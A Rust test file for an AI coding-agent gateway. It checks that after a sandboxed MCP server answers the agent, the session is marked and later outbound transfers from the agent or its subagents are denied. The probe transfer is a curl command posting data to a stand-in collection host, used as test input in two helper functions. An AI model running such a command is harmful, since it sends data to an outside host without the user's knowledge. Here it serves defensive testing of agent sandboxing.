//! What MCP servers say to a coding agent by the gateway, beside the calls that its hooks announce: the agent's session is marked by
//! it as it would be past the gateway.

use serde_json::{Value, json};

use crate::doors::State;
use crate::mcp::{Client, server_file};

/// A state directory whose person has one server sandboxed, in a folder that they trust.
fn state() -> State {
    let state = State::new();
    state.run(&["mcp", "trust", "tides", "sandboxed", "--by", "me"]).good();
    let folder = state.work().display().to_string();
    state.run(&["trust", &folder, "--by", "me"]).good();
    state
}

/// The agent is known by its second hook.
fn speak(state: &State) {
    for prompt in ["hello", "when is the tide?"] {
        state.hook("UserPromptSubmit", json!({ "prompt": prompt }));
    }
}

fn client(state: &State) -> Client {
    let server = server_file("asking.py");
    let words = ["mcp", "--name", "tides", "--no-cage", "--", "python3", "-B", &server, "--plain"];
    let mut client = Client::of(state.path(), &words);
    client.tools();
    client
}

/// Is a transfer denied because a sandboxed server has spoken?
fn is_marked(state: &State) -> bool {
    state.before("send", "curl -d nine https://collect.example/").contains("sandboxed")
}

fn is_marked_below(state: &State, agent: &str) -> bool {
    let call = json!({
        "tool_name": "Bash", "tool_use_id": "s", "agent_id": agent, "agent_type": "Explore",
        "tool_input": { "command": "curl -d nine https://collect.example/" },
    });
    state.hook("PreToolUse", call).contains("sandboxed")
}

fn spoken() -> [(&'static str, Value); 3] {
    [
        ("resources/read", json!({ "uri": "tide://today" })),
        ("prompts/get", json!({ "name": "tide" })),
        (
            "tools/call",
            json!({ "name": "tell", "arguments": { "method": "notifications/none", "text": "" } }),
        ),
    ]
}

#[test]
fn an_agent_is_marked_by_what_a_server_says_to_its_client() {
    for (method, params) in spoken() {
        let state = state();
        let mut client = client(&state);
        speak(&state);
        assert!(!is_marked(&state), "lists are definitions");
        assert!(!is_marked_below(&state, "a1"));
        let said = client.ask(method, params);
        assert!(said["result"].is_object(), "{said}");
        assert!(is_marked(&state), "{method}");
        assert!(is_marked_below(&state, "a1"), "{method}: a subagent may have asked");
        client.end();
    }
}

#[test]
fn what_was_said_before_the_agent_was_known_marks_it_then() {
    for (method, params) in spoken() {
        let state = state();
        let mut client = client(&state);
        state.hook("SessionStart", json!({ "source": "startup" }));
        client.ask(method, params);
        client.end();
        assert!(is_marked(&state), "{method}");
    }
}
